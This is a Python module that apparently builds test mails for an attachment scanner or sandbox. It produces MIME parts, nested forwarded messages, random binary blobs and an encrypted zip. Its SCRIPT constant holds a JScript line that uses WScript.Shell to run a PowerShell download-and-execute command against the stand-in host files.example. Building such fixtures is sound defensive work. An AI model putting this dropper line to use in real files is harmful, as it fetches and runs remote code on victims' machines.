"""Makes mails byte by byte, so that odd ones stay odd."""
import base64
import os
import subprocess
import tempfile

TEXT = b'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello,\r\nthis is the text.\r\n'
# Downloads nothing: nobody runs it but the emulation.
SCRIPT = (b'var shell = new ActiveXObject("WScript.Shell"); // %s\n'
          b'shell.Run("powershell -c \\"iex (New-Object Net.WebClient).DownloadString(\'http://files.example/a\')\\"");\n')


def attachment(content, parameters, kind=b'application/octet-stream', disposition=b'attachment'):
    """A part in base64; parameters are those of Content-Disposition, as bytes."""
    return (b'Content-Type: ' + kind + b'\r\nContent-Disposition: ' + disposition + b'; ' + parameters
            + b'\r\nContent-Transfer-Encoding: base64\r\n\r\n' + base64.encodebytes(content).replace(b'\n', b'\r\n'))


def multipart(*parts, boundary=b'=_outer'):
    return (b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
            + b''.join(b'--' + boundary + b'\r\n' + part + b'\r\n' for part in parts) + b'--' + boundary + b'--\r\n')


def mail(subject, body, recipient='to@example.net'):
    return (f'From: Sender <sender@example.org>\r\nTo: {recipient}\r\nSubject: {subject}\r\n'
            f'Date: Sun, 22 Nov 2026 16:00:00 +0000\r\nMessage-ID: <{subject}@example.org>\r\nMIME-Version: 1.0\r\n').encode() + body


def program(marker=''):
    """Bytes of no known type, which go to the sandbox; the simulator heeds the marker."""
    return b'\x00\x01\x02' + os.urandom(200).replace(b'\n', b'') + f'\n{marker}\n'.encode() + os.urandom(200)


def script(tag):
    return SCRIPT % tag.encode()


def nested(*parts):
    """A message that carries a message with these parts."""
    inner = b'From: a@example.org\r\nSubject: inner\r\nMIME-Version: 1.0\r\n' + multipart(TEXT, *parts, boundary=b'=_inner')
    return multipart(TEXT, b'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="forwarded.eml"\r\n\r\n' + inner)


def encrypted_zip():
    with tempfile.TemporaryDirectory() as folder:
        with open(f'{folder}/secret.txt', 'wb') as file:
            file.write(os.urandom(500))
        subprocess.run(['zip', '-q', '-j', '-P', 'as told by telephone', f'{folder}/a.zip', f'{folder}/secret.txt'], check=True)
        with open(f'{folder}/a.zip', 'rb') as file:
            return file.read()
